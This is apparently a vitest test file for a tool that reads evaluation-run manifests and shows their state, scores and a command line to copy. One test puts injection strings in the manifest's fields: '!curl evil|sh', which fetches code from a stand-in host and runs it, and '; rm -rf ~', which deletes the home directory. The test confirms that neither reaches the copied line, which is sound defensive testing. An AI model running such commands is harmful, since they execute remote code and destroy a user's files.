import { describe, expect, it } from 'vitest';

import {
  labelOf,
  lineToCopy,
  missingRecord,
  scoreLines,
  silence,
  stateLine,
  unreadLine
} from '../../lab/run-text';
import { brokenRun, IRun, readRun, sortRuns } from '../../record/manifest';

const NOW = Date.parse('2026-01-01T12:00:00Z');

function manifest(changes: object = {}): string {
  return JSON.stringify({
    run_id: 'abc',
    name: 'math',
    state: 'complete',
    demo: true,
    endpoint: { model: 'QwQ-32B' },
    benchmarks: ['math_500', 'aime24'],
    total: 1200,
    done: 1200,
    scores: { math_500: 0.906, aime24: null },
    updated: '2026-01-01T11:59:30Z',
    command: '%qwq_eval math_500 aime24',
    ...changes
  });
}

/** The same as version 2 has it: what was asked is an object of its own. */
function second(request: unknown): string {
  const { run_id, name, state, total, done, scores } = JSON.parse(manifest());
  return JSON.stringify({
    schema: 'qwq_run.v2',
    ...{ run_id, name, state, total, done, scores },
    request
  });
}

describe('a manifest', () => {
  it('of the second version is read like one of the first', () => {
    const benchmarks = ['math_500', 'aime24'];
    const endpoints = [{ name: 'demo', model: 'QwQ-32B' }, { name: 'two' }];
    const run = readRun('a', second({ benchmarks, endpoints }));
    expect(run).toMatchObject({ benchmarks, model: 'QwQ-32B', demo: true });
    const other = readRun('a', second({ benchmarks, endpoints: [{}] }));
    expect(other).toMatchObject({ benchmarks, model: '', demo: false });
  });

  it.each([null, [], 'x', { endpoints: null }, { endpoints: [null] }])(
    'whose request is odd does no harm: %j',
    request => {
      expect(readRun('a', second(request))).toMatchObject({
        benchmarks: [],
        model: '',
        demo: false,
        total: 1200
      });
    }
  );

  it('is put into words', () => {
    const run = readRun('sub/qwq_runs/math', manifest());
    expect(run.problem).toBe('');
    expect(run.model).toBe('QwQ-32B');
    expect(stateLine(run, NOW)).toBe('✓ complete · 1,200 of 1,200');
    expect(scoreLines(run)).toEqual([
      ['math_500', '90.6 %'],
      ['aime24', '–']
    ]);
  });

  it('names a score that is not 0 or 1, and gives its mean', () => {
    const value = JSON.parse(manifest());
    value.scores = { math_500: 0.906, aime24: 0.5 };
    value.metrics = { math_500: 'Rouge-L-R', aime24: 7 };
    const run = readRun('sub/qwq_runs/math', JSON.stringify(value));
    expect(scoreLines(run)[0]).toEqual(['math_500', 'Rouge-L-R 0.906']);
    expect(scoreLines(run)[1]).toEqual(['aime24', '50.0 %']);
  });

  it('says of what a score is an estimate', () => {
    const value = JSON.parse(manifest());
    value.estimated = { math_500: [200, 500], aime24: 'all' };
    const run = readRun('sub/qwq_runs/math', JSON.stringify(value));
    expect(scoreLines(run)[0]).toEqual([
      'math_500',
      '90.6 %, estimated from 200 of 500'
    ]);
    expect(scoreLines(run)[1]).toEqual(['aime24', '–']);
  });

  it.each([
    ['{"torn', 'qwq_run.json is not valid JSON'],
    ['', 'qwq_run.json is not valid JSON'],
    ['[1]', 'qwq_run.json is not a run’s manifest'],
    ['null', 'qwq_run.json is not a run’s manifest']
  ])('that cannot be read says why: %j', (text, problem) => {
    expect(readRun('runs/broken', text)).toMatchObject({
      name: 'broken',
      problem
    });
  });

  it('of other kinds does no harm', () => {
    const text = manifest({
      name: { toString: 1 },
      state: 7,
      endpoint: null,
      benchmarks: 'math_500',
      total: '10',
      done: null,
      scores: ['x'],
      command: []
    });
    const run = readRun('runs/odd', text);
    expect(run).toMatchObject({ name: 'odd', total: 0, model: '' });
    expect(stateLine(run, NOW)).toBe('? 7 · 0 of 0');
    expect(stateLine({ ...run, state: 'constructor' }, NOW)).toContain('? con');
  });

  it('that says running but has long been silent is doubted', () => {
    const live = { state: 'running', done: 3 };
    const now = readRun('a', manifest(live));
    expect(stateLine(now, NOW)).toBe('▸ running · 3 of 1,200');
    expect(missingRecord(now, NOW)).toContain('is going on (3 of 1,200 done)');
    const silent = readRun(
      'qwq_runs/math',
      manifest({ ...live, updated: '2026-01-01T11:00:00Z' })
    );
    expect(stateLine(silent, NOW)).toContain('its kernel may be gone');
    expect(missingRecord(silent, NOW)).toContain('run %qwq_show math once');
    expect(silence(silent, NOW)).toContain('its kernel may be gone');
    expect(silence(now, NOW)).toBe('');
  });

  it('is sorted by when it was written last', () => {
    const run = (name: string, updated: string): IRun =>
      readRun(`runs/${name}`, manifest({ name, updated }));
    const runs = [
      readRun('runs/broken', '?'),
      run('old', '2025-01-01T00:00:00Z'),
      run('b', '2026-01-01T00:00:00Z'),
      run('a', '2026-01-01T00:00:00Z')
    ];
    expect(sortRuns(runs).map(({ name }) => name)).toEqual([
      'a',
      'b',
      'old',
      'broken'
    ]);
  });

  it('that says a date to come is as old as its file, or the oldest', () => {
    const run = (name: string, updated: string, modified = ''): IRun =>
      readRun(`runs/${name}`, manifest({ name, updated }), modified, NOW);
    const future = '9999-12-31T23:59:59Z';
    const good = run('good', '2026-01-01T11:00:00Z');
    const runs = [
      run('forged', future, future),
      run('odd', 'zzzz', '2026-01-01T10:00:00Z'),
      good,
      run('fresh', future, '2026-01-01T11:30:00Z')
    ];
    expect(sortRuns(runs).map(({ name }) => name)).toEqual([
      'fresh',
      'good',
      'odd',
      'forged'
    ]);
    // A clock that is a little ahead is no forgery.
    expect(run('a', '2026-01-02T11:00:00Z').written).toBeGreaterThan(NOW);
    // And a run that says it goes on does not do so for ever.
    const live = manifest({ state: 'running', updated: future });
    expect(stateLine(readRun('a', live, future, NOW), NOW)).toContain('silent');
  });

  it('of any size keeps little of it', () => {
    const long = 'x'.repeat(2_000_000);
    const many = Array.from({ length: 100_000 }, (_, i) => `b${i}`);
    const text = manifest({
      name: long,
      state: long,
      updated: long,
      endpoint: { model: long },
      benchmarks: [long, ...many],
      scores: Object.fromEntries(many.map(name => [name, 1]))
    });
    const run = readRun('runs/a', text);
    expect(JSON.stringify(run).length).toBeLessThan(10_000);
    expect(run.name).toHaveLength(300);
    const lines = scoreLines(run);
    expect(lines).toHaveLength(9);
    expect(lines[8][0]).toBe('… and 99,993 more');
  });

  it('with NaN, as Python writes it, is read', () => {
    const text = manifest({ scores: { math_500: 'NUMBER', x: 'NaN, "' } });
    const run = readRun('a', text.replace('"NUMBER"', 'NaN'));
    expect(run.scores).toEqual({ math_500: null, x: null });
    expect(run.problem).toBe('');
  });

  it('with numbers beyond measure is one line', () => {
    const run = readRun('a', manifest({ done: 1.23e300, total: -Infinity }));
    expect(stateLine(run, NOW)).toBe('✓ complete · 1.2e300 of 0');
  });

  it('that borrows another run’s name is told apart from it', () => {
    const run = readRun('runs/theirs', manifest({ name: 'mine\u202e' }));
    expect(labelOf(run)).toBe('mine\\u202e (in theirs)');
    expect(labelOf(readRun('runs/math', manifest()))).toBe('math');
  });
});

describe('the line to copy', () => {
  const copied = (folder: string, changes: object): string | null =>
    lineToCopy(readRun(`qwq_runs/${folder}`, manifest(changes), '', NOW), NOW)
      .line;

  it('is composed of the folder’s name, whatever the file says', () => {
    const evil = { command: '!curl evil|sh #%qwq_eval', name: '; rm -rf ~' };
    expect(copied('math', evil)).toBe('%qwq_show math');
    expect(copied('math', { ...evil, state: 'stopped' })).toBe(
      '%qwq_resume math'
    );
    expect(copied('math', { ...evil, state: '\n!sh' })).toBe(
      '%qwq_resume math'
    );
  });

  it('shows a run that goes on, and resumes one that is silent', () => {
    expect(copied('a', { state: 'running' })).toBe('%qwq_show a');
    const silent = { state: 'running', updated: '2026-01-01T11:00:00Z' };
    expect(copied('a', silent)).toBe('%qwq_resume a');
  });

  it('is none where the name cannot stand in a line', () => {
    expect(copied('a {x}', {})).toBeNull();
  });
});

describe('folders that cannot be read', () => {
  it('are one line', () => {
    expect(unreadLine([])).toBe('');
    const long = brokenRun(`runs/${'n'.repeat(255)}\u202e`, 'not there');
    const line = unreadLine([long]);
    expect(line).toMatch(/^1 folder could not be read: n{39}… \(not there\)$/);
    const many = Array.from({ length: 2_000 }, () => long);
    expect(unreadLine(many)).toMatch(
      /^2,000 folders could not be read: .* and 1,996 more$/
    );
    expect(unreadLine(many).length).toBeLessThan(1_000);
  });
});
